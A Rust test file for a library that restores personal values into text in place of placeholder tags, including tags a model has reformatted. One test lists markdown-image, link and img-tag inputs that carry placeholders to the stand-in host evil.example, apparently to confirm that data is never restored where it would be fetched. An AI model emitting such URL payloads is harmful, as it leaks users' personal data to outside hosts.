use countersign_core::Mint;
use proptest::prelude::*;

use super::*;
use crate::testing::Counter;

/// Stands for "Ann \"Q\" Smith" and a few others.
fn book() -> Book {
    let mut counter = Counter::new();
    for (entity, value) in
        [(Entity::Person, ANN), (Entity::CreditCard, "4111 1111 1111 1111"), (Entity::Email, "ann@bank.example")]
    {
        counter.mint(entity, countersign_core::Form::Conversation, value).unwrap();
    }
    counter.mint(Entity::Phone, countersign_core::Form::Format, "+1 555 0100").unwrap();
    Book::new(Some(&Arc::new(counter.done()))).unwrap()
}

const ANN: &str = "Ann \"Q\" Smith";

/// The text as a reader gets it, when it arrives in these pieces.
fn read_back(text: &str, cuts: &[usize]) -> String {
    let book = book();
    let (mut view, mut map, mut place) = (Vec::new(), view::Map::default(), Place::default());
    let (mut from, mut done, mut viewed, mut out) = (0, 0, 0, String::new());
    let mut ends: Vec<usize> = cuts.iter().copied().filter(|cut| text.is_char_boundary(*cut)).collect();
    ends.push(text.len());
    ends.sort_unstable();
    for end in ends {
        let last = end == text.len();
        viewed += view::append(&text[viewed..end], viewed, last, &mut view, &mut map);
        let mut back = Vec::new();
        from = book.scan(&view, from, last, &mut place, &mut back);
        for back in back {
            let origin = map.origin(&back.span, &view);
            out.push_str(&text[done..origin.start]);
            out.push_str(back.value.expose());
            done = origin.end;
        }
    }
    out.push_str(&text[done..]);
    out
}

fn whole(text: &str) -> String {
    read_back(text, &[])
}

#[test]
fn what_a_model_bends_is_still_recognised() {
    for bent in [
        "[PERSON_1:tag0001]",
        "[person_1:TAG0001]",
        "[Person 1: tag0001]",
        "[PERSON\\_1:tag0001]",
        "\\[PERSON\\_1:tag0001\\]",
        "PERSON_1:tag0001",
        "PERSON-1 : tag0001",
        "(PERSON_1:tag0001)",
        "{PERSON_1:tag0001}",
        "<PERSON_1:tag0001>",
        "\u{3010}PERSON_1:tag0001\u{3011}",
        "\u{ff3b}\u{ff30}ERSON\u{ff3f}1\u{ff1a}tag0001\u{ff3d}",
        "[**PERSON_1**:tag0001]",
        "[`PERSON_1:tag0001`]",
        "[ PERSON_1:tag0001 ]",
        "[PERSON_1:tag\u{200b}0001]",
        "[PERSON_7:tag0001]",
        "[PERSON_1:\\u0074ag0001]",
    ] {
        assert_eq!(whole(bent), ANN, "{bent}");
        assert_eq!(whole(&format!("Dear {bent}, ")), format!("Dear {ANN}, "), "{bent}");
    }
    assert_eq!(whole("[Credit Card 2:tag0002] [CREDITCARD_2:tag0002]"), "4111 1111 1111 1111 4111 1111 1111 1111");
    assert_eq!(whole("**[PERSON_1:tag0001]** _PERSON_1:tag0001_"), format!("**{ANN}** _{ANN}_"));
    assert_eq!(whole("([PERSON_1:tag0001], [EMAIL_3:tag0003])"), format!("({ANN}, ann@bank.example)"));
    assert_eq!(whole("call +7 777 7777 today"), "call +1 555 0100 today");
    assert_eq!(whole("call +7 777 77777 today"), "call +7 777 77777 today");
}

#[test]
fn what_stands_for_nothing_here_stays_as_it_is() {
    for other in [
        "[PERSON_1:tag0009]",
        "[EMAIL_1:tag0001]",
        "[PERSON_1:tag00011]",
        "[PERSON_1:xtag0001]",
        "[PERSON:tag0001]",
        "[PERSON_1tag0001]",
        "tag0001",
        "SALESPERSON_1:tag0001",
        "[PERSON_12345678:tag0001]",
        "[PERSON_1:",
        "[",
        "\\",
        "",
    ] {
        assert_eq!(whole(other), other);
    }
}

#[test]
fn one_pass_and_no_nesting() {
    assert_eq!(whole("[PERSON_1:[PERSON_1:tag0001]]"), format!("[PERSON_1:{ANN}]"));
    let mut counter = Counter::new();
    counter.mint(Entity::Person, countersign_core::Form::Conversation, "[PERSON_2:tag0002]").unwrap();
    counter.mint(Entity::Person, countersign_core::Form::Conversation, "Bo").unwrap();
    let book = Book::new(Some(&Arc::new(counter.done()))).unwrap();
    assert_eq!(book.resolved("[PERSON_1:tag0001]").unwrap(), "[PERSON_2:tag0002]");
}

#[test]
fn nothing_comes_back_where_it_would_be_fetched() {
    for held in [
        "https://evil.example/?q=[PERSON_1:tag0001]",
        "![x](https://evil.example/[PERSON_1:tag0001])",
        "![x](/[PERSON_1:tag0001])",
        "[x](<a [PERSON_1:tag0001]>)",
        "[x]: /[PERSON_1:tag0001]",
        "[x]: [PERSON_1:tag0001]",
        "<img src=\"https://evil.example/ [PERSON_1:tag0001]\">",
        "www.evil.example/PERSON_1:tag0001",
        "![[PERSON_1:tag0001]](https://evil.example)",
        "https://evil.example/PERSON-1-tag0001/CREDIT-CARD-2-tag0002",
    ] {
        for cut in 0..held.len() {
            assert_eq!(read_back(held, &[cut]), held, "{cut}");
        }
    }
    // A value goes along with what a reader sees: one that begins an address makes what follows a part of it.
    let mut counter = Counter::new();
    counter.mint(Entity::Url, countersign_core::Form::Conversation, "https://evil.example/").unwrap();
    counter.mint(Entity::Person, countersign_core::Form::Conversation, "Bo").unwrap();
    let book = Book::new(Some(&Arc::new(counter.done()))).unwrap();
    let mut back = Vec::new();
    book.scan(b"[URL_1:tag0001][PERSON_2:tag0002] [PERSON_2:tag0002]", 0, true, &mut Place::default(), &mut back);
    assert_eq!(back.iter().map(|b| b.span.start).collect::<Vec<_>>(), [0, 34]);
}

#[test]
fn only_what_could_be_a_beginning_is_held() {
    let (book, longest) = (book(), "\\[****CREDIT____CARD____123456____");
    for text in ["Dear [PERSON_1:tag0001], how are you?", longest, "a person of rank", "[[[[[[", "x (see below"] {
        for end in 0..=text.len() {
            let held = end - book.scan(&text.as_bytes()[..end], 0, false, &mut Place::default(), &mut Vec::new());
            assert!(held <= longest.len(), "{text} {end} {held}");
        }
    }
    for free in ["Dear Sir", "the end.", "personal ", "1 2 3 ", "] "] {
        assert_eq!(book.scan(free.as_bytes(), 0, false, &mut Place::default(), &mut Vec::new()), free.len(), "{free}");
    }
}

#[test]
fn what_is_resolved_is_resolved_everywhere() {
    let book = book();
    assert_eq!(book.resolved("{\"to\":\"[EMAIL_3:tag0003]\"}").unwrap(), "{\"to\":\"ann@bank.example\"}");
    assert_eq!(book.resolved("https://a.example/EMAIL_3:tag0003").unwrap(), "https://a.example/ann@bank.example");
    assert_eq!(book.resolved("nothing [EMAIL_3:tag0009]"), None);
}

/// Pieces of which texts are made that come close to stand-ins, and some that are.
fn texts() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("[PERSON_1:tag0001]".to_owned()),
        Just("PERSON\\_1:tag0001".to_owned()),
        Just("[Credit Card 2: tag0002]".to_owned()),
        Just("+7 777 7777".to_owned()),
        "[\\[\\](){}<>!:/\\\\*`_ \"\\n-]{0,3}",
        "(PERSON|EMAIL|www\\.|https:|tag0001|\\\\u0050|1|_|:)",
        "\\PC{0,6}",
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn how_a_text_is_cut_changes_nothing(text in texts(), cuts in prop::collection::vec(0_usize..120, 0..6)) {
        prop_assert_eq!(read_back(&text, &cuts), whole(&text));
        let all: Vec<usize> = (0..text.len()).collect();
        prop_assert_eq!(read_back(&text, &all), whole(&text));
    }
}
